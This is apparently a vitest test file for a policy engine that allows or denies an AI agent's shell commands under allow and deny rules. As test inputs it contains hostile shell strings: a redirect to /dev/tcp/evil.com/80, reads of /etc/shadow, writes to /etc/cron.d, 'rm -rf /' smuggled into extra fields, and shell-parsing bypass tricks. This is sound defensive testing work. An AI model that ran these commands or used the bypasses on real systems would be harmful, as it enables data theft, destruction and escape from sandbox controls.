// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are expansions of shells.
import { expect, test } from "vitest";
import { tokenizeTools } from "../parse/tool-list.ts";
import { decide } from "./decide.ts";
import type { Effect } from "./decision.ts";
import type { PolicyLayer } from "./policy-layer.ts";
import { collapsePath } from "./request-path.ts";

function effectOf(lists: Partial<PolicyLayer>, input: unknown, tool = "Bash"): Effect {
  const resolvePath = (path: string): string => collapsePath(path.startsWith("/") ? path : `/work/${path}`);
  return decide({ tool, input, workspace: "/work", resolvePath }, [
    { kind: "user", name: "user", otherwise: "allow", ...lists },
  ]).effect;
}
const only = (text: string): Partial<PolicyLayer> => ({ only: tokenizeTools(text) });
const deny = (text: string): Partial<PolicyLayer> => ({ deny: tokenizeTools(text) });

test("a folder of a folder may be a link that leads out", () => {
  const resolvePath = (path: string): string =>
    collapsePath(path.startsWith("/") ? path : `/work/${path}`).replace(/^\/work\/sub\/out/, "/evil");
  const effect = (command: string): Effect =>
    decide({ tool: "Bash", input: { command }, workspace: "/work", resolvePath }, [
      { kind: "user", name: "user", otherwise: "allow", ...only("Bash(git:*) Bash(cd:*)") },
    ]).effect;
  for (const command of [
    "cd sub/out && git status",
    "cd sub && cd out && git status",
    "cd sub; cd a; cd ../out; git status",
    "cd sub && git -C out status",
    "git -C sub -C out status",
  ])
    expect(effect(command), command).toBe("deny");
  for (const command of [
    "cd sub && cd a && git status",
    "cd sub && git -C a status",
    "git -C sub -C a status",
  ])
    expect(effect(command), command).toBe("allow");
});

test("very many folders of git are not followed", () => {
  const command = (count: number): string => `git ${"-C a ".repeat(count)}status`;
  expect(effectOf(only("Bash(git:*)"), { command: command(20) })).toBe("allow");
  expect(effectOf(only("Bash(git:*)"), { command: command(40) })).toBe("deny");
});

test("redirections inside the allowed folder pass", () => {
  for (const command of [
    "git log > out/x",
    "git log >> out/a/b 2>&1",
    "git log > /work/out/x",
    "git log 2>/dev/null",
  ])
    expect(effectOf(only("Bash(git:*) Write(out/**)"), { command }), command).toBe("allow");
});

/** An allowed program with output redirected to where nothing may be written. */
test.each([
  "git log > ../../x",
  "git log > /etc/cron.d/x",
  "git log >x",
  "git log 1>x",
  "git log &> x",
  "git log >| x",
  "git log > out/../x",
  "git log > ~/x",
  "git log > $HOME/x",
  "git log > out/$X",
  'git log > "$(git status)"',
  "git log > out/x > y",
  "git log > out/x; git status > y",
  "(git log) > y",
  "{ git log; } > y",
  "if git log; then git status; fi > y",
  "cd / && git log > out/x",
  "pushd /tmp; git log > out/x",
  "git log < /etc/shadow",
  "git log > /dev/tcp/evil.com/80",
  "git log > /proc/self/cwd/out/x",
  "> y",
  "git log | git apply > y",
])("a redirection does not slip past Bash(git:*) Write(out/**): %s", (command) => {
  expect(effectOf(only("Bash(git:*) Bash(cd:*) Bash(pushd:*) Write(out/**)"), { command })).toBe("deny");
});

test.each([
  "git log > secrets/x",
  "sh -c 'git log > secrets/x'",
  "sudo sh -c 'git log >> ./secrets/x'",
  "git log > $X",
  "git 'log",
])("Write(secrets/**) denies %s", (command) => {
  expect(effectOf(deny("Write(secrets/**)"), { command })).toBe("deny");
  expect(effectOf(deny("Edit(secrets/**)"), { command })).toBe("deny");
  expect(effectOf(deny("Write"), { command })).toBe("deny");
});

test("rules on reading apply to input redirections", () => {
  expect(effectOf(deny("Read(.env)"), { command: "sort < .env" })).toBe("deny");
  expect(effectOf(deny("Read(.env)"), { command: "sort < other" })).toBe("allow");
});

test("a file opened with <> is read and written", () => {
  expect(effectOf(deny("Read(.env)"), { command: "cat <> .env" })).toBe("deny");
  expect(effectOf(deny("Write(.env)"), { command: "cat <> .env" })).toBe("deny");
  expect(effectOf(only("Bash(cat:*) Read"), { command: "cat <> .env" })).toBe("deny");
  expect(effectOf(only("Bash(cat:*) Write"), { command: "cat <> .env" })).toBe("deny");
  expect(effectOf(only("Bash(cat:*) Read Write"), { command: "cat <> .env" })).toBe("allow");
});

/** Lines in which one of dash, bash and zsh runs a program or opens a file that another does not. */
test.each([
  "git status &>/dev/null touch x",
  "git status &>>/dev/null touch x",
  "git status &>/dev/null 2>&1 touch x",
  "{ git status } always { touch x\n}",
  "git log $x['$(touch x)']",
  "git log -- ${x:-*(e:touch x:)}",
  "git log >! x",
  "git log >&1-",
  "git log >& '$(touch x)'",
  "=touch x",
  "- touch x",
  "nocorrect touch x",
  "repeat 1 touch x",
  "{fd}> x git log",
])("what shells read differently satisfies no list and every deny rule: %j", (command) => {
  expect(effectOf(only("Bash(git:*) Write(out/**)"), { command })).toBe("deny");
  expect(effectOf(deny("Bash(touch:*) Write(x)"), { command })).toBe("deny");
});

test("&> is readable where every shell runs the same programs", () => {
  for (const command of ["git fetch &>/dev/null", "git fetch &>/dev/null && git log", "git log &>out/x 2>&1"])
    expect(effectOf(only("Bash(git:*) Write(out/**)"), { command }), command).toBe("allow");
});

test.each([
  ["git -C sub status", "allow"],
  ["git -C sub -C deeper log", "allow"],
  ["git -C /work/sub log", "allow"],
  ["git -C . log", "allow"],
  ['git -C "$(git rev-parse --show-toplevel)" status', "allow"],
  ["git -C .. log", "deny"],
  ["git -C sub/../.. log", "deny"],
  ["git -C /work2 log", "deny"],
  ["git -C .claude/skills/x/repo log", "deny"],
  ["git -C $x log", "deny"],
  ["git -C sub -c core.pager=id log", "deny"],
  ["git -C", "deny"],
  ["cd sub && git status", "allow"],
  ["cd /work/sub && git status", "allow"],
  ["cd /tmp/evil && git status", "deny"],
  ["cd .. && git status", "deny"],
  ["cd .claude/skills/x/repo && git status", "deny"],
  ["cd && git status", "deny"],
  ["cd - && git status", "deny"],
  ['cd "$x" && git status', "deny"],
  ["cd sub /tmp && git status", "deny"],
  ["cd sub; cd /tmp; git status", "deny"],
  ["(cd /tmp); git status", "deny"],
  ["pushd /tmp && git status", "deny"],
  ["pushd sub && git status", "deny"],
  ["cd /tmp", "allow"],
  ["command cd /tmp && git status", "deny"],
])("git obeys the settings of the folder it runs in: %s: %s", (command, effect) => {
  const list = only("Bash(git:*) Bash(cd:*) Bash(pushd:*) Bash(command cd:*)");
  expect(effectOf(list, { command })).toBe(effect);
});

test("a folder that the list spells out is one to work in", () => {
  const command = "cd /srv/app && git status";
  expect(effectOf(only("Bash(git:*) Bash(cd /srv/app)"), { command })).toBe("allow");
  expect(effectOf(only("Bash(git:*) Bash(cd /srv/*)"), { command })).toBe("deny");
  expect(
    effectOf(only("Bash(git:*) Bash(cd:*) Bash(cd /srv/app)"), { command: "cd /tmp && git status" }),
  ).toBe("deny");
  expect(effectOf(only("Bash(git:*) Bash(cd /srv/app)"), { command: `cd /; ${command}` })).toBe("deny");
});

test("a redirection to an unknown place is a write, and may be a connection", () => {
  const command = 'git log > "$out"';
  expect(effectOf(deny("Bash(rm:*)"), { command })).toBe("allow");
  expect(effectOf(deny("Write(x)"), { command })).toBe("deny");
  expect(effectOf(deny("WebFetch(domain:example.com)"), { command })).toBe("deny");
  expect(effectOf(only("Bash(git:*) Write"), { command })).toBe("deny");
  expect(effectOf(only("Bash(git:*) Write WebFetch"), { command })).toBe("allow");
  expect(effectOf(only("Bash Write"), { command })).toBe("allow");
});

test("a pattern for several commands covers that line, and its redirections need their own rules", () => {
  const list = only("Bash(source .env && uv run pytest *)");
  expect(effectOf(list, { command: "source .env && uv run pytest tests/test_a.py -v" })).toBe("allow");
  expect(effectOf(list, { command: "source .env && uv run pytest > out" })).toBe("deny");
  expect(effectOf(list, { command: "source .env && uv run pytest; rm x" })).toBe("deny");
  expect(effectOf(list, { command: "uv run pytest" })).toBe("deny");
  expect(
    effectOf(only("Bash(source .env && uv run pytest *) Write"), {
      command: "source .env && uv run pytest > out",
    }),
  ).toBe("allow");
  expect(effectOf(deny("Bash(cd x && rm *)"), { command: "rm x" })).toBe("deny");
  expect(effectOf(deny("Bash(cd x && rm *)"), { command: "ls x" })).toBe("allow");
});

test("a pattern for several commands covers no other line of a batch", () => {
  const call = (command: string): object => ({ tool: "Bash", parameters: { command } });
  const batch = (...lines: readonly string[]): object => ({ tool_calls: lines.map(call) });
  const list = only("batch Bash(git fetch && git log *)");
  expect(effectOf(list, batch("git fetch && git log -1", "git fetch && git log"), "batch")).toBe("allow");
  expect(effectOf(list, batch("git fetch && git log -1", "rm x"), "batch")).toBe("deny");
});

test("many changes of folder are decided in linear time", () => {
  const started = process.cpuUsage();
  expect(effectOf(only("Bash(git:*) Bash(cd /x)"), { command: "cd /x;git status;".repeat(1900) })).toBe(
    "allow",
  );
  expect(process.cpuUsage(started).user / 1000).toBeLessThan(2000);
});

/** Inputs with an ambiguous command. */
const unclear: readonly { readonly input: unknown; readonly tool?: string }[] = [
  { input: {} },
  { input: null },
  { input: "git status" },
  { input: ["git", "status"] },
  { input: { command: "" } },
  { input: { command: 7 } },
  { input: { command: [] } },
  { input: { command: ["git", 7] } },
  { input: { command: ["git", ["status"]] } },
  { input: { command: { cmd: "git status" } } },
  { input: { command: "git status", cmd: "rm -rf /" } },
  { input: { command: "git status", Command: "rm -rf /" } },
  { input: { command: "git status", script: "rm -rf /" } },
  { input: { command: "git status", stdin: "x" } },
  { input: { command: "git status", stdin: "." } },
  { input: { command: "git status", cmd: { line: "rm -rf /" } } },
  { input: { command: "git status", cwd: [] } },
  { input: { command: "git status", env: { GIT_PAGER: "sh" } } },
  { input: { command: "git status", shell: "pwsh" } },
  { input: { command: "git status", cwd: "/elsewhere" } },
  { input: { command: "git status", workdir: "sub" } },
  { input: { command: "git status", directory: ".." } },
  { input: { command: "git status" }, tool: "powershell" },
  { input: { command: "git status" }, tool: "PowerShell" },
  { input: { chars: "rm -rf /\n" }, tool: "write_stdin" },
];

test.each(unclear)("Bash(git:*) does not let %j through", ({ input, tool }) => {
  expect(effectOf(only("Bash(git:*)"), input, tool)).toBe("deny");
  expect(effectOf(deny("Bash(rm:*)"), input, tool)).toBe("deny");
  expect(effectOf(only("Bash"), input, tool)).toBe("allow");
});

test("fields that only describe the call do not matter", () => {
  const input = { command: "git status", timeout: 5, run_in_background: true, description: "x", cwd: null };
  expect(effectOf(only("Bash(git:*)"), input)).toBe("allow");
});

test("-C is left out for git alone", () => {
  expect(effectOf(only("Bash(make install)"), { command: "make -C sub install" })).toBe("deny");
});

test.each([
  ["git log > x", "allow"],
  ["A=1; git log > x", "allow"],
  ["cd secrets; git log > x", "deny"],
  ["cd secrets; git log > /work/x", "allow"],
  ["command cd secrets; git log > x", "deny"],
  ["$x secrets; git log > x", "deny"],
  ["source f; git log > x", "deny"],
  [". ./f; git log > x", "deny"],
])("a relative path is unknown where the folder may have changed: %s: %s", (command, effect) => {
  expect(effectOf(deny("Write(secrets/**)"), { command })).toBe(effect);
});

test("a list of words is not parsed as shell", () => {
  expect(effectOf(only("Bash(git:*)"), { command: ["git", "log", "; rm -rf /", "$(id)", "a'b"] })).toBe(
    "allow",
  );
  expect(effectOf(only("Bash(git:*)"), { command: ["bash", "-lc", "git status; rm -rf /"] })).toBe("deny");
  expect(effectOf(only("Bash(git:*)"), { command: ["rm", "git status"] })).toBe("deny");
  expect(effectOf(only("Bash(git:*)"), { command: ["git status"] })).toBe("deny");
});

test("patterns with spaces are one pattern, and match word by word", () => {
  const list = only("Bash(git add *) Bash(npm run test)");
  expect(effectOf(list, { command: "git add ." })).toBe("allow");
  expect(effectOf(list, { command: "git   add   ." })).toBe("allow");
  expect(effectOf(list, { command: "'git add' ." })).toBe("deny");
  expect(effectOf(list, { command: "git address" })).toBe("deny");
  expect(effectOf(list, { command: "npm run test2" })).toBe("deny");
  expect(effectOf(list, { command: "npm run 'test evil'" })).toBe("deny");
});

test("nested commands are bounded", () => {
  const command = `${"sudo ".repeat(6000)}git status`;
  const started = process.cpuUsage();
  expect(effectOf(only("Bash(git:*)"), { command })).toBe("deny");
  expect(effectOf(deny("Write"), { command })).toBe("deny");
  expect(process.cpuUsage(started).user / 1000).toBeLessThan(2000);
});

test("a folder that two programs read differently, or one of very many, is not followed", () => {
  const list = only("Bash(git:*) Bash(cd:*)");
  const folders = (count: number): string => Array.from({ length: count }, (_, at) => `cd d${at}; `).join("");
  expect(effectOf(list, { command: `${folders(3)}git status` })).toBe("allow");
  expect(effectOf(list, { command: `${folders(10)}git status` })).toBe("deny");
  expect(effectOf(list, { command: "cd '~x' && git status" })).toBe("deny");
  expect(effectOf(list, { command: "git -C 'C:/x' status" })).toBe("deny");
});

test("a list without words is not a readable command", () => {
  expect(effectOf(deny("Bash(rm:*)"), { command: [] })).toBe("deny");
  expect(effectOf(only("Bash(git:*)"), { command: [] })).toBe("deny");
});
